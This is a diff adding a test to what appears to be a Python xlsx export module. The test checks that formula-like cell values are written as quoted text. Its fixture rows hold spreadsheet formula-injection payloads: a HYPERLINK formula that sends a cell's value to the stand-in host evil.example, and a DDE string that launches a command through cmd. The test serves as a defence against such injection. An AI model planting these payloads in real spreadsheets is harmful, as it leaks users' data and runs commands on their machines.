@@ -253,6 +253,19 @@ def test_xlsx_has_one_sheet_per_table_with_the_header_and_numbers_as_numbers(tmp
     assert units.column_dimensions["B"].width > units.column_dimensions["A"].width
 
 
+def test_xlsx_writes_text_that_looks_like_a_formula_as_text(tmp_path):
+    target = tmp_path / "nhiem-vu.xlsx"
+    action = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    rows = [[1, action], [2, "+cmd|' /C calc'!A0"], [3, "@SUM(1+1)"], [-4, "- gạch đầu dòng"]]
+    write_xlsx([Table(header=["STT", "Nhiệm vụ"], rows=rows)], target)
+    sheet = openpyxl.load_workbook(target).worksheets[0]
+    assert sheet["B2"].value == action and sheet["B2"].data_type == "s"
+    assert all(sheet[f"B{n}"].data_type == "s" for n in range(2, 6))
+    assert all(sheet[f"B{n}"].quotePrefix for n in range(2, 6))
+    assert sheet["A5"].value == -4 and sheet["A5"].data_type == "n"
+    assert not sheet["A2"].quotePrefix
+
+
 def test_xlsx_sheet_names_are_cut_cleaned_and_unique():
     stream = io.BytesIO()
     long = "Bảng: kết quả / theo đơn vị và theo lĩnh vực cải cách"
